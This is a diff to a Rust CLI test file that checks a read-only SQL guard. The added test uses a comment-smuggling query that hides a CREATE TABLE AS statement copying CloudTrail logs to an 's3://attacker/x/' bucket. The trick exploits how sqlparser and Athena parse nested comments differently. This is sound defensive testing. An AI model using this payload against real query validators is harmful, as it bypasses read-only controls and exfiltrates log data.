@@ -7,10 +7,17 @@ use std::process::{Command, Output, Stdio};
 const BIN: &str = env!("CARGO_BIN_EXE_sagewatch");
 
 fn run(args: &[&str]) -> Output {
+    run_with(&[], args)
+}
+
+/// `sagewatch --demo ... GLOBAL trail ARGS`.
+fn run_with(global: &[&str], args: &[&str]) -> Output {
     let home = std::env::temp_dir().join(format!("sagewatch-cli-trail-{}", std::process::id()));
     std::fs::create_dir_all(&home).unwrap();
     Command::new(BIN)
-        .args(["--demo", "--demo-start", "2026-11-26T10:00:00Z", "trail"])
+        .args(["--demo", "--demo-start", "2026-11-26T10:00:00Z"])
+        .args(global)
+        .arg("trail")
         .args(args)
         .env_clear()
         .env("PATH", std::env::var("PATH").unwrap_or_default())
@@ -134,4 +141,30 @@ fn max_rows_is_bounded() {
         assert!(stderr(&out).contains("--max-rows"), "{}", stderr(&out));
         assert!(stdout(&out).is_empty());
     }
+}
+
+#[test]
+fn a_write_hidden_by_a_comment_is_refused_before_anything_is_sent() {
+    // sqlparser's generic dialect nests comments and read only the SELECT; Athena's engine
+    // ends the first comment at its first `*/` and would run the CTAS.
+    let hidden = "/* /* */ CREATE TABLE evil WITH (external_location='s3://attacker/x/') AS \
+                  SELECT * FROM cloudtrail_logs -- */ SELECT eventname FROM cloudtrail_logs \
+                  WHERE \"timestamp\" = '2026/11/29'";
+    for global in [&[][..], &["--readonly"]] {
+        let out = run_with(global, &["--sql", hidden, "--yes"]);
+        assert_eq!(code(&out), 2, "{}", stderr(&out));
+        assert!(
+            stderr(&out).contains("remove the comments"),
+            "{}",
+            stderr(&out)
+        );
+        assert!(stdout(&out).is_empty(), "nothing ran: {}", stdout(&out));
+    }
+    let out = run(&[
+        "--sql",
+        "WITH a AS (SELECT 1) INSERT INTO x SELECT * FROM a",
+        "--yes",
+    ]);
+    assert_eq!(code(&out), 2, "{}", stderr(&out));
+    assert!(stderr(&out).contains("holds INSERT"), "{}", stderr(&out));
 }
